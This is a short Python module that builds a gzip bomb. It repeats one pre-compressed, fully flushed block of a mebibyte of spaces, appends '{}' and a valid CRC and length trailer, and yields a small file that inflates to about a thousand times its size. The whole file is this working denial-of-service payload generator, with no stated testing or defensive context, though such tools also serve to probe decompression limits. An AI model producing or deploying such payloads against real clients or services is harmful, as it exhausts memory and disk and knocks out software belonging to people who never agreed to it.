"""A gzip bomb, built without compressing all of it."""

import struct
import zlib
from functools import lru_cache

_MIB = b" " * 2**20


@lru_cache(maxsize=4)
def gzip_bomb(mebibytes: int) -> bytes:
    """Return an empty JSON object after `mebibytes` MiB of spaces, compressed to a thousandth."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers to earlier bytes, so that the same piece can be repeated.
    piece = compressor.compress(_MIB) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(b"{}") + compressor.flush()
    checksum = 0
    for _ in range(mebibytes):
        checksum = zlib.crc32(_MIB, checksum)
    length = (mebibytes * len(_MIB) + 2) % 2**32
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + piece * mebibytes + end + struct.pack("<II", zlib.crc32(b"{}", checksum), length)
